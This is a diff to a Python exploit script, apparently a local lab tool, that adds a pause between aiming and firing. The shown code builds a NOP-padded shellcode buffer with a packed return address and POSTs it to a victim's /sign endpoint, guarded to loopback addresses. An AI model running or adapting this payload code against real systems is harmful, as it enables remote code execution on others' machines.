@@ -15,6 +15,7 @@ import os
 import re
 import socket
 import struct
+import time
 from dataclasses import dataclass
 from pathlib import Path
 
@@ -98,15 +99,17 @@ def payload(code: bytes, name: int, back: int) -> bytes:
     return code.ljust(back - name, _NOP) + struct.pack("<Q", name)
 
 
-def attack(host: str, port: int, url: str) -> Outcome:
-    """Attack the victim on a loopback address.
+def attack(host: str, port: int, url: str, pause_s: float = 0) -> Outcome:
+    """Attack the victim on a loopback address; between looking where to aim and the attack rest for `pause_s`.
 
     Raises `ValueError` for any other address, `VictimError` if no victim is there, `OSError` of the connection.
     """
     if not ipaddress.ip_address(host).is_loopback:
         raise ValueError(f"{host} is no loopback address; this attack is for no other")
     code = shellcode(url)
-    name = payload(code, *look(host, port))
+    aim = look(host, port)
+    time.sleep(pause_s)
+    name = payload(code, *aim)
     answer = _ask(host, port, b"POST /sign HTTP/1.0\r\nContent-Length: %d\r\n\r\n" % len(name) + name)
     return Outcome(answer, code, answer.rstrip().endswith(WORD))
 
